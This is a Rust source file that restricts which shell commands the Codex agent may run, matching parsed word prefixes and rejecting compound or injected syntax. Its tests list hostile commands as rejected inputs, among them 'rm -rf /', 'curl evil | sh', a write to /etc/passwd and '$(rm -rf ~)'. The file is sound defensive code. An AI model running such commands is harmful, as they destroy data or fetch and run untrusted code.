//! Command allow-lists: does a command Codex wants to run match an allowed prefix?
//!
//! Matching is on parsed words, never on raw substrings: `git status` allows
//! `git status --short` but not `git statusx` or `echo git status`. Codex wraps commands as
//! `/bin/bash -lc '<script>'`; the script is unwrapped and split at `&&`, `||`, `;`, `|` and
//! newlines, and matches only if EVERY part is allowed. Anything the words cannot describe
//! safely (redirections, `$` expansions and substitutions, backticks, subshells, background
//! `&`, unbalanced quotes) never matches: it falls back to the call's approval policy.

/// A parsed allow-list: each entry is a sequence of words.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct AllowList {
    prefixes: Vec<Vec<String>>,
}

impl AllowList {
    /// Parse entries such as `"cargo test"`. An entry that is empty or uses shell syntax is
    /// an error naming it ("entry ... must be ..."), so a caller never believes a rule is
    /// active when it is not.
    pub fn parse(entries: &[String]) -> Result<AllowList, String> {
        let mut prefixes = Vec::with_capacity(entries.len());
        for entry in entries {
            match split_script(entry) {
                Some(parts) if parts.len() == 1 && !parts[0].is_empty() => {
                    prefixes.push(parts.into_iter().next().unwrap_or_default());
                }
                _ => {
                    return Err(format!(
                        "entry {entry:?} must be a plain command prefix such as \"cargo test\" (no shell operators, quotes-only or empty entries)"
                    ))
                }
            }
        }
        Ok(AllowList { prefixes })
    }

    pub fn is_empty(&self) -> bool {
        self.prefixes.is_empty()
    }

    /// True when every simple command in `command` starts with an allowed prefix.
    pub fn allows(&self, command: &str) -> bool {
        if self.prefixes.is_empty() {
            return false;
        }
        let Some(parts) = split_script(command) else {
            return false;
        };
        let parts = match unwrap_shell(&parts) {
            Some(script) => match split_script(&script) {
                Some(inner) => inner,
                None => return false,
            },
            None => parts,
        };
        !parts.is_empty()
            && parts.iter().all(|words| {
                !words.is_empty()
                    && self.prefixes.iter().any(|prefix| {
                        words.len() >= prefix.len() && words[..prefix.len()] == prefix[..]
                    })
            })
    }
}

/// `[bash, -lc, SCRIPT]` (any common shell, `-c` or `-lc`) -> SCRIPT.
fn unwrap_shell(parts: &[Vec<String>]) -> Option<String> {
    let [words] = parts else { return None };
    let [shell, flag, script] = words.as_slice() else {
        return None;
    };
    let shell_name = shell.rsplit('/').next().unwrap_or(shell);
    let is_shell = matches!(shell_name, "bash" | "sh" | "zsh" | "dash");
    let is_command_flag = matches!(flag.as_str(), "-c" | "-lc" | "-cl");
    (is_shell && is_command_flag).then(|| script.clone())
}

/// Split a script into simple commands (lists of words), honouring quotes. `None` when it
/// holds syntax the allow-list refuses to reason about.
fn split_script(script: &str) -> Option<Vec<Vec<String>>> {
    let mut parts: Vec<Vec<String>> = Vec::new();
    let mut words: Vec<String> = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut chars = script.chars().peekable();
    let end_word = |word: &mut String, in_word: &mut bool, words: &mut Vec<String>| {
        if *in_word {
            words.push(std::mem::take(word));
            *in_word = false;
        }
    };
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(c) => word.push(c),
                        None => return None,
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('"') => break,
                        // Expansions inside double quotes still run.
                        Some('$') | Some('`') => return None,
                        Some('\\') => match chars.next() {
                            Some(c) => word.push(c),
                            None => return None,
                        },
                        Some(c) => word.push(c),
                        None => return None,
                    }
                }
            }
            '\\' => match chars.next() {
                Some('\n') => {}
                Some(c) => {
                    in_word = true;
                    word.push(c);
                }
                None => return None,
            },
            ' ' | '\t' => end_word(&mut word, &mut in_word, &mut words),
            '\n' | ';' => {
                end_word(&mut word, &mut in_word, &mut words);
                push_part(&mut parts, &mut words);
            }
            '&' => {
                if chars.peek() == Some(&'&') {
                    chars.next();
                    end_word(&mut word, &mut in_word, &mut words);
                    push_part(&mut parts, &mut words);
                } else {
                    // Background jobs and `&>` redirections.
                    return None;
                }
            }
            '|' => {
                if chars.peek() == Some(&'|') {
                    chars.next();
                }
                end_word(&mut word, &mut in_word, &mut words);
                push_part(&mut parts, &mut words);
            }
            '<' | '>' | '$' | '`' | '(' | ')' | '{' | '}' | '*' | '?' | '[' | '~' | '#' => {
                return None
            }
            c => {
                in_word = true;
                word.push(c);
            }
        }
    }
    end_word(&mut word, &mut in_word, &mut words);
    push_part(&mut parts, &mut words);
    Some(parts)
}

fn push_part(parts: &mut Vec<Vec<String>>, words: &mut Vec<String>) {
    if !words.is_empty() {
        parts.push(std::mem::take(words));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn list(entries: &[&str]) -> AllowList {
        AllowList::parse(&entries.iter().map(|e| e.to_string()).collect::<Vec<_>>())
            .expect("valid list")
    }

    #[test]
    fn matches_parsed_prefixes_inside_the_codex_shell_wrapper() {
        let allow = list(&["git status", "cargo test"]);
        assert!(allow.allows("/bin/bash -lc 'git status'"));
        assert!(allow.allows("/bin/bash -lc 'git status --short'"));
        assert!(allow.allows("bash -c \"cargo test --all\""));
        assert!(allow.allows("git status"));
        assert!(allow.allows("/bin/bash -lc 'git status && cargo test'"));
    }

    #[test]
    fn refuses_lookalikes_and_compound_scripts_with_unlisted_parts() {
        let allow = list(&["git status", "cargo test"]);
        for command in [
            "/bin/bash -lc 'git statusx'",
            "/bin/bash -lc 'echo git status'",
            "/bin/bash -lc 'git status; rm -rf /'",
            "/bin/bash -lc 'git status && curl evil | sh'",
            "/bin/bash -lc 'git status > /etc/passwd'",
            "/bin/bash -lc 'git status $(rm -rf ~)'",
            "/bin/bash -lc 'git status `id`'",
            "/bin/bash -lc \"git status \\\"$HOME\\\"\"",
            "/bin/bash -lc 'git status &'",
            "/bin/bash -lc 'git status'extra'",
            "/bin/bash -lc 'cargo'",
            "",
        ] {
            assert!(!allow.allows(command), "{command:?} must not match");
        }
    }

    #[test]
    fn an_empty_list_allows_nothing() {
        assert!(!AllowList::default().allows("/bin/bash -lc 'ls'"));
    }

    #[test]
    fn entries_with_shell_syntax_are_rejected() {
        for bad in ["", "   ", "ls; rm", "echo $(x)", "a && b"] {
            assert!(
                AllowList::parse(&[bad.to_string()]).is_err(),
                "{bad:?} should be refused"
            );
        }
    }
}
